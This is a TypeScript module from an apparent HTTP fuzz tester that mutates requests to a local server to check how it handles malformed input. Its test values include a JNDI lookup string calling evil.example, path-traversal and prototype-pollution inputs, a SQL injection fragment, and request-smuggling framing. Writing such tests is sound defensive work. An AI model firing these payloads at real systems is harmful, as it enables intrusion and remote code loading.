import { Buffer } from 'node:buffer'
import { gzipSync } from 'node:zlib'
import { contentOf, dropHeader, setHeader, targetOf, type Draft } from './fuzz.draft.ts'
import { nastyNumbers, nastyTexts, nastyValue } from './fuzz.values.ts'
import type { Random } from './random.ts'

/** Changes a request. */
export type Trick = (draft: Draft, random: Random) => void

const nastyText = (random: Random) => random.pick(nastyTexts)

/** Encodes a text for a query. Lone surrogates cannot be encoded, so they become the bytes they would have. */
const encoded = (text: string) => (text.isWellFormed() ? encodeURIComponent(text) : '%ed%a0%80')

const fieldsOf = (value: unknown): [string, unknown][] =>
  typeof value === 'object' && value !== null ? Object.entries(value) : []

/** Replaces one value at any depth. */
function replaceInside(value: unknown, random: Random, by: (old: unknown) => unknown): unknown {
  const fields = fieldsOf(value)
  if (fields.length === 0) return by(value)
  const [key] = random.pick(fields)
  return Object.fromEntries(fields.map(([name, inner]) => [name, name === key ? replaceInside(inner, random, by) : inner]))
}

const thousands = Object.fromEntries(Array.from({ length: 3000 }, (_, index) => [`f${index}`, 1]))

/** Tricks with values. */
const valueTricks: Record<string, Trick> = {
  'a field of another kind': (draft, random) => {
    if (draft.json !== undefined) draft.json = replaceInside(draft.json, random, () => nastyValue(random))
  },
  'a nasty text': (draft, random) => {
    if (draft.json !== undefined)
      draft.json = replaceInside(draft.json, random, (old) =>
        random.chance(0.5) ? `${String(old)}${nastyText(random)}` : nastyText(random),
      )
  },
  'a nasty number': (draft, random) => {
    if (draft.json !== undefined) draft.json = replaceInside(draft.json, random, () => random.pick(nastyNumbers))
  },
  'a field too few': (draft, random) => {
    const fields = fieldsOf(draft.json)
    if (fields.length === 0) return
    const [key] = random.pick(fields)
    draft.json = Object.fromEntries(fields.filter(([name]) => name !== key))
  },
  'a field too many': (draft, random) => {
    if (draft.json !== undefined) draft.json = { ...(draft.json as object), [nastyText(random) || 'x']: nastyValue(random) }
  },
  'fields in thousands': (draft) => {
    if (draft.json !== undefined) draft.json = { ...(draft.json as object), ...thousands }
  },
  'a body that is no object': (draft, random) => {
    if (draft.json !== undefined) draft.json = nastyValue(random)
  },
}

const textOf = (draft: Draft) => contentOf(draft)?.toString() ?? ''

/** Tricks with the JSON syntax. */
const jsonTricks: Record<string, Trick> = {
  'cut off': (draft, random) => {
    const text = textOf(draft)
    draft.content = text.slice(0, random.int(text.length + 1))
  },
  'one byte changed': (draft, random) => {
    const bytes = Buffer.from(textOf(draft) || '{}')
    bytes[random.int(bytes.length)] = random.int(256)
    draft.content = bytes
  },
  'broken UTF-8': (draft) => {
    draft.content = Buffer.concat([Buffer.from(textOf(draft).slice(0, -2)), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from('"}')])
  },
  'UTF-16': (draft) => {
    draft.content = Buffer.from(textOf(draft), 'utf16le')
  },
  'a byte order mark': (draft) => {
    draft.content = `\ufeff${textOf(draft)}`
  },
  'keys twice': (draft) => {
    const text = textOf(draft)
    if (text.startsWith('{"')) draft.content = `{${text.slice(1, -1)},${text.slice(1)}`
  },
  __proto__: (draft) => {
    const text = textOf(draft)
    if (text.startsWith('{')) draft.content = text.replace('{', '{"__proto__":{"admin":true},').replace(',}', '}')
  },
  'a number too large': (draft) => {
    draft.content = textOf(draft).replace(/:[^,}]+/, ':1e400')
  },
  'a number of a thousand digits': (draft) => {
    draft.content = textOf(draft).replace(/:[^,}]+/, `:${'9'.repeat(1000)}`)
  },
  'nested 20,000 deep': (draft) => {
    draft.content = '['.repeat(20_000) + ']'.repeat(20_000)
  },
  'objects nested 10,000 deep': (draft) => {
    draft.content = `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`
  },
  'a comma too many': (draft) => {
    draft.content = textOf(draft).replace(/}$/, ',}')
  },
  'two documents': (draft) => {
    draft.content = textOf(draft) + textOf(draft)
  },
  'a comment': (draft) => {
    draft.content = `/* */${textOf(draft)}`
  },
  'spaces to the limit': (draft) => {
    draft.content = `${' '.repeat(65_000)}${textOf(draft)}`
  },
  'one byte above the limit': (draft) => {
    const text = textOf(draft)
    draft.content = text.padEnd(64 * 1024 + 1, ' ')
  },
  'half a megabyte': (draft) => {
    draft.content = `{"a":"${'x'.repeat(500_000)}"}`
  },
  'an empty body': (draft) => {
    draft.content = ''
  },
  'random bytes': (draft, random) => {
    draft.content = Buffer.from(Array.from({ length: random.int(300) }, () => random.int(256)))
  },
}

/** Tricks with the path. Only the call or a 404 may respond. */
const pathTricks: Record<string, Trick> = Object.fromEntries(
  Object.entries<(path: string, random: Random) => string>({
    'a letter encoded': (path, random) => {
      const at = 1 + random.int(path.length - 1)
      return `${path.slice(0, at)}%${(path.codePointAt(at) ?? 0x61).toString(16).padStart(2, '0')}${path.slice(at + 1)}`
    },
    'two slashes': (path) => path.replaceAll('/', '//'),
    'dots inside': (path) => path.replace('/', '/./x/../'),
    'encoded dots': (path) => path.replace('/', '/%2e%2e/'),
    'a way out': (path) => `/..%2f..%2f..%2f${path}`,
    'a slash at the end': (path) => `${path}/`,
    capitals: (path) => path.toUpperCase(),
    NUL: (path) => `${path}%00`,
    'broken UTF-8': (path) => `${path}%ff`,
    'half an escape': (path) => `${path}%`,
    'a bad escape': (path) => `${path}%zz`,
    'a path parameter': (path) => `${path};jsessionid=1`,
    'a nasty end': (path, random) => `${path}/${encoded(random.pick(nastyTexts)).slice(0, 3000)}`,
    'a path of 8 kB': (path) => `${path}/${'x'.repeat(8000)}`,
    'a path of 40 kB': (path) => `${path}/${'x'.repeat(40_000)}`,
    'slashes in thousands': (path) => '/'.repeat(5000) + path,
    'the absolute form': (path) => `http://milf.localhost${path}`,
    'the absolute form of nothing': (path) => `http://${path}`,
    'the absolute form of another scheme': (path) => `gopher://milf.localhost${path}`,
    'an asterisk': () => '*',
    'a host and port': () => 'milf.localhost:80',
    'bytes above 127': (path) => `${path}/\xe9\xff`,
    'a fragment': (path) => `${path}#${'x'.repeat(20)}`,
    'a method name': (path) => path.replace('/api/', '/constructor/'),
    'a prototype': () => '/__proto__',
  }).map(([name, change]): [string, Trick] => [
    name,
    (draft, random) => {
      draft.call = null
      draft.path = change(draft.path, random)
      const search = draft.query.map(([key, value]) => `${encodeURIComponent(key)}=${encodeURIComponent(value)}`).join('&')
      draft.target = search ? `${draft.path}?${search}` : draft.path
    },
  ]),
)

const addToQuery = (draft: Draft, text: string) => {
  const target = targetOf(draft)
  draft.target = `${target}${target.includes('?') ? '&' : '?'}${text}`
}

/** Tricks with the query. */
const queryTricks: Record<string, Trick> = {
  'a nasty value': (draft, random) => {
    const names = draft.query.map(([name]) => name)
    if (names.length === 0) return addToQuery(draft, `x=${encoded(nastyText(random)).slice(0, 6000)}`)
    const name = random.pick(names)
    const text = nastyText(random)
    if (!text.isWellFormed()) return addToQuery(draft, `${name}=%ed%a0%80`)
    draft.query = draft.query.map(([key, value]) => [key, key === name ? text.slice(0, 2000) : value])
  },
  'a name twice': (draft, random) => {
    const [name] = random.pick<[string, string]>(draft.query.length > 0 ? draft.query : [['id', '']])
    addToQuery(draft, `${name}=1`)
  },
  'a name left out': (draft, random) => {
    draft.query = draft.query.filter(() => random.chance(0.5))
  },
  'a nasty name': (draft, random) => addToQuery(draft, `${encoded(nastyText(random)).slice(0, 2000)}=1`),
  'a list': (draft) => addToQuery(draft, 'id[]=1&id[]=2&id[a][b]=3'),
  'a prototype': (draft) => addToQuery(draft, '__proto__=1&constructor=2&__proto__[admin]=1'),
  'signs alone': (draft) => addToQuery(draft, '&&==&=&?&#'),
  'a half escape': (draft) => addToQuery(draft, 'a=%&b=%2'),
  'broken UTF-8': (draft) => addToQuery(draft, 'a=%c3%28%ff'),
  semicolons: (draft) => addToQuery(draft, 'a=1;b=2;c=3'),
  'a hundred and one names': (draft) => addToQuery(draft, Array.from({ length: 101 }, (_, index) => `p${index}=1`).join('&')),
  'two thousand names': (draft) => addToQuery(draft, Array.from({ length: 2000 }, (_, index) => `p${index}`).join('&')),
  'one name two thousand times': (draft) => addToQuery(draft, 'p&'.repeat(2000)),
}

const contentTypes = [
  'text/plain',
  'text/plain;charset=UTF-8',
  'application/json; charset=utf-16',
  'application/json; charset=iso-8859-1',
  'application/json;charset="utf-8',
  'application/json; charset=',
  'application/json, text/plain',
  'application/json\t;x=1',
  'application/JSON',
  'application/jsonx',
  'application/vnd.api+json',
  'application/x-www-form-urlencoded',
  'application/xml',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  `multipart/form-data; boundary=${'x'.repeat(300)}`,
  '',
  '/',
  ';',
  'x'.repeat(5000),
  '__proto__/constructor',
]

const nastyHeaders: readonly (readonly [string, readonly string[]])[] = [
  ['content-type', contentTypes],
  ['content-encoding', ['gzip', 'br', 'deflate', 'zstd', 'identity', 'x', 'gzip, gzip']],
  ['accept-encoding', ['*', 'br;q=0', 'gzip;q=x', ', ,', 'x'.repeat(3000), 'identity;q=0, *;q=0', 'zstd']],
  ['accept', ['', '*/*;q=9', 'text/html', 'application/xml', 'x'.repeat(3000)]],
  ['accept-language', ['*', 'nl;q=1', 'x'.repeat(3000), ',,,,', 'en-GB-oed']],
  [
    'cookie',
    [
      'session',
      'session=',
      '=',
      ';;;',
      'session=%',
      'session=%00',
      'session="x',
      `session=${'x'.repeat(5000)}`,
      'a=b; '.repeat(500),
      '__proto__=1',
      'locale=__proto__',
      'locale=../../etc',
      'session=a; session=b',
    ],
  ],
  [
    'host',
    [
      '',
      'x',
      'localhost',
      '127.0.0.1',
      '[::1]',
      'milf.localhost:99999',
      'milf.localhost:x',
      'MILF.LOCALHOST',
      'milf.localhost.',
      'milf.localhost..',
      'user@milf.localhost',
      'milf.localhost/x',
      'milf.localhost, evil.example',
      'x'.repeat(3000),
      '\xff',
      '__proto__',
      'constructor.localhost',
      '.localhost',
    ],
  ],
  ['idempotency-key', ['', 'x', 'k'.repeat(101), 'with space', 'é', '__proto__', 'a-good-enough-key']],
  ['range', ['bytes=0-0', 'bytes=-1', 'bytes=9-1', 'bytes=0-0,1-1,2-2', `bytes=${'0-1,'.repeat(1000)}`, 'x']],
  ['if-none-match', ['*', '""', 'W/"x"', '"'.repeat(2000)]],
  ['if-modified-since', ['x', 'Thu, 01 Jan 1970 00:00:00 GMT', '9'.repeat(500)]],
  ['expect', ['100-continue', '200-ok', 'x']],
  ['connection', ['close', 'keep-alive', 'upgrade', 'x, y, host, cookie', 'content-type']],
  ['x-forwarded-for', ['127.0.0.1', '::1', 'x', ','.repeat(500), '1.2.3.4, 5.6.7.8', "' or 1=1", '999.999.999.999']],
  ['x-forwarded-host', ['evil.example', 'bbw.localhost', 'x'.repeat(2000)]],
  ['x-forwarded-proto', ['https', 'javascript', 'x']],
  ['forwarded', ['for=1.2.3.4;host=evil.example', ';;;']],
  ['origin', ['null', 'x', '://', 'http://', 'https://evil.example', 'http://[', '\xff', 'x'.repeat(3000)]],
  ['sec-fetch-site', ['', 'same-origin', 'same-site', 'cross-site', 'none', 'x', '__proto__']],
  ['sec-fetch-dest', ['document', 'x', '', 'empty']],
  ['user-agent', ['', '\xff\xfe', 'x'.repeat(8000), '${jndi:ldap://evil.example/a}']],
  ['referer', ['x', 'javascript:alert(1)', '\xff']],
  ['authorization', ['Basic x', 'Bearer x', 'x'.repeat(3000)]],
  ['x-http-method-override', ['DELETE', 'PUT']],
  ['x-request-type', ['client', 'x', '']],
  ['x-request-id', ['x'.repeat(3000), '\xff', '__proto__']],
  ['upgrade', ['websocket', 'h2c', 'TLS/1.3', 'x']],
  ['http2-settings', ['AAMAAABkAAQAAP__']],
  ['te', ['trailers', 'x']],
  ['max-forwards', ['0', '-1', 'x']],
]

/** Tricks with headers. */
const headerTricks: Record<string, Trick> = {
  ...Object.fromEntries(
    nastyHeaders.map(([name, values]): [string, Trick] => [
      name,
      (draft, random) => {
        setHeader(draft, name, random.pick(values))
        // Another host is another site, and with these headers the call may not be reached.
        if (name === 'host') draft.call = null
        if (name === 'upgrade') setHeader(draft, 'connection', 'upgrade')
        if (name === 'expect' || name === 'upgrade' || name === 'http2-settings') draft.call = null
      },
    ]),
  ),
  'a body that is compressed': (draft) => {
    draft.content = gzipSync(textOf(draft) || '{}')
    setHeader(draft, 'content-encoding', 'gzip')
  },
  'no cookie': (draft) => dropHeader(draft, 'cookie'),
  'no content type': (draft) => dropHeader(draft, 'content-type'),
  'no host': (draft) => {
    dropHeader(draft, 'host')
    draft.http = false
    draft.call = null
  },
  'two hosts': (draft) => {
    draft.headers.push(['host', 'bbw.localhost'])
    draft.call = null
  },
  'two cookies': (draft) => void draft.headers.push(['cookie', 'session=x; locale=de']),
  'two content types': (draft) => void draft.headers.push(['content-type', 'text/plain']),
  'two idempotency keys': (draft) => void draft.headers.push(['idempotency-key', 'another-key-of-mine']),
  'eighty headers': (draft) =>
    draft.headers.push(...Array.from({ length: 80 }, (_, index): [string, string] => [`x-${index}`, '1'])),
  'three thousand headers': (draft) => {
    draft.headers.push(...Array.from({ length: 3000 }, (_, index): [string, string] => [`x${index}`, '']))
    draft.call = null
    draft.http = false
  },
  'headers of 40 kB': (draft) => {
    draft.headers.push(['x-long', 'x'.repeat(40_000)])
    draft.call = null
    draft.http = false
  },
}

/** Other methods for the same path. */
const methodTricks: Record<string, Trick> = {
  ...Object.fromEntries(
    ['GET', 'HEAD', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'PROPFIND', 'SEARCH', 'LINK', 'M-SEARCH'].map(
      (method): [string, Trick] => [
        method,
        (draft) => {
          if (draft.method !== method) draft.call = null
          draft.method = method
        },
      ],
    ),
  ),
  ...Object.fromEntries(
    ['CONNECT', 'get', 'BREW', 'G ET', '', '\xff', 'X'.repeat(200)].map((method): [string, Trick] => [
      method || 'nothing',
      (draft) => {
        draft.method = method
        draft.call = null
        draft.http = false
      },
    ]),
  ),
}

const broken =
  (change: Trick): Trick =>
  (draft, random) => {
    change(draft, random)
    draft.call = null
    draft.http = false
  }

/** Tricks with the length of the body. */
const framingTricks: Record<string, Trick> = {
  'a length that is too long': broken((draft) => {
    setHeader(draft, 'content-length', String(Buffer.byteLength(textOf(draft)) + 10))
    draft.mayHang = true
  }),
  'a length that is too short': broken((draft) => setHeader(draft, 'content-length', '1')),
  'a length of nothing': broken((draft) => setHeader(draft, 'content-length', '0')),
  'a negative length': broken((draft) => setHeader(draft, 'content-length', '-5')),
  'a length that is no number': broken((draft) => setHeader(draft, 'content-length', '1e3')),
  'a length beyond all': broken((draft) => {
    setHeader(draft, 'content-length', '99999999999999999999')
    draft.mayHang = true
  }),
  'two lengths': broken((draft) => draft.headers.push(['content-length', '5'], ['content-length', '6'])),
  'length and chunks': broken((draft) => draft.headers.push(['content-length', '5'], ['transfer-encoding', 'chunked'])),
  'chunks that are none': broken((draft) => {
    setHeader(draft, 'transfer-encoding', 'chunked')
    draft.content = 'zz\r\nabc\r\n'
  }),
  'a chunk that never comes': broken((draft) => {
    setHeader(draft, 'transfer-encoding', 'chunked')
    draft.content = 'ff\r\nabc'
    draft.mayHang = true
  }),
  'a chunk size beyond all': broken((draft) => {
    setHeader(draft, 'transfer-encoding', 'chunked')
    draft.content = 'fffffffffffffffff\r\nabc'
    draft.mayHang = true
  }),
  'chunk extensions': broken((draft) => {
    const text = textOf(draft)
    setHeader(draft, 'transfer-encoding', 'chunked')
    draft.content = `${Buffer.byteLength(text).toString(16)};${'x'.repeat(5000)}=1\r\n${text}\r\n0\r\n\r\n`
    draft.mayHang = true
  }),
  'an unknown transfer coding': broken((draft) => {
    setHeader(draft, 'transfer-encoding', 'xchunked')
    draft.mayHang = true
  }),
  'a header without a colon': broken((draft) => void draft.headers.push(['broken header\r\nx', '1'])),
  'a name with a space': broken((draft) => void draft.headers.push(['a b', '1'])),
  'a folded header': broken((draft) => void draft.headers.push(['x', '1\r\n folded'])),
  'NUL in a header': broken((draft) => void draft.headers.push(['x', 'a\u0000b'])),
  'a bare line feed': broken((draft) => void draft.headers.push(['x', 'a\nb: c'])),
  'a bare carriage return': broken((draft) => void draft.headers.push(['x', 'a\rb: c'])),
  'a space in the target': broken((draft) => {
    draft.target = `${targetOf(draft)} x`
  }),
  'HTTP/0.9': broken((draft) => {
    draft.target = `${targetOf(draft)}\r\n\r\n`
  }),
  'HTTP/2': broken((draft) => {
    draft.target = `${targetOf(draft)} HTTP/2.0\r\nx: y\r\n`
  }),
}

const boundary = 'fuzz'
const part = (disposition: string, type: string, content: string) =>
  `--${boundary}\r\ncontent-disposition: ${disposition}\r\n${type && `content-type: ${type}\r\n`}\r\n${content}\r\n`
const whole = (...parts: string[]) => `${parts.join('')}--${boundary}--\r\n`
const file = 'form-data; name="file"; filename="a.png"'

/** Broken uploads. */
const multipartBodies: Record<string, () => string> = {
  'no parts': () => whole(),
  'nothing at all': () => '',
  'no end': () => part(file, 'image/png', 'abc'),
  'no headers': () => `--${boundary}\r\n\r\nabc\r\n--${boundary}--`,
  'a part of headers': () => `--${boundary}\r\n${'x: y\r\n'.repeat(3000)}\r\nabc\r\n--${boundary}--`,
  'a header of 100 kB': () => part(`form-data; name="file"; filename="${'x'.repeat(100_000)}"`, 'image/png', 'abc'),
  'many files': () => whole(...Array.from({ length: 50 }, () => part(file, 'image/png', 'abc'))),
  'many fields': () => whole(...Array.from({ length: 2000 }, (_, index) => part(`form-data; name="f${index}"`, '', '1'))),
  'a field of 100 kB': () => whole(part('form-data; name="x"', '', 'x'.repeat(100_000)), part(file, 'image/png', 'abc')),
  'a field for the file': () => whole(part('form-data; name="file"', '', 'abc')),
  'a file of another name': () => whole(part('form-data; name="photo"; filename="a"', 'image/png', 'abc')),
  'a prototype': () =>
    whole(part('form-data; name="__proto__"', '', '1'), part('form-data; name="constructor"; filename="a"', '', '1')),
  'no name': () => whole(part('form-data; filename="a.png"', 'image/png', 'abc')),
  'no disposition': () => `--${boundary}\r\ncontent-type: image/png\r\n\r\nabc\r\n--${boundary}--\r\n`,
  'a broken disposition': () => whole(part('form-data; name="file', 'image/png', 'abc')),
  'an encoded name': () => whole(part('form-data; name="file"; filename*=utf-8\'\'%ff%00%2e%2e%2f', 'image/png', 'abc')),
  'a transfer encoding': () => whole(part(`${file}\r\ncontent-transfer-encoding: base64`, 'image/png', 'YWJj')),
  'a part in a part': () => whole(part(file, `multipart/mixed; boundary=${boundary}`, whole(part(file, 'image/png', 'abc')))),
  'bytes in front': () => `${'x'.repeat(100_000)}\r\n${whole(part(file, 'image/png', 'abc'))}`,
  'bytes behind': () => `${whole(part(file, 'image/png', 'abc'))}${'x'.repeat(100_000)}`,
  'line feeds alone': () => whole(part(file, 'image/png', 'abc')).replaceAll('\r\n', '\n'),
  'no picture': () => whole(part(file, 'image/png', 'This is no picture')),
}

const multipartTricks: Record<string, Trick> = Object.fromEntries(
  Object.entries(multipartBodies).map(([name, body]): [string, Trick] => [
    name,
    (draft) => {
      draft.content = body()
      setHeader(draft, 'content-type', `multipart/form-data; boundary=${boundary}`)
    },
  ]),
)

/** All kinds of tricks, with their weights. */
export const kinds: readonly { name: string; weight: number; tricks: Record<string, Trick>; fits?: (draft: Draft) => boolean }[] =
  [
    { name: 'value', weight: 30, tricks: valueTricks, fits: ({ json }) => json !== undefined },
    { name: 'query', weight: 14, tricks: queryTricks },
    { name: 'JSON', weight: 14, tricks: jsonTricks, fits: ({ json, method }) => json !== undefined || method !== 'GET' },
    { name: 'header', weight: 18, tricks: headerTricks },
    { name: 'path', weight: 10, tricks: pathTricks },
    { name: 'method', weight: 6, tricks: methodTricks },
    {
      name: 'multipart',
      weight: 4,
      tricks: multipartTricks,
      fits: ({ method, call }) => method === 'POST' && (call?.upload ?? false),
    },
    { name: 'framing', weight: 2, tricks: framingTricks },
  ]
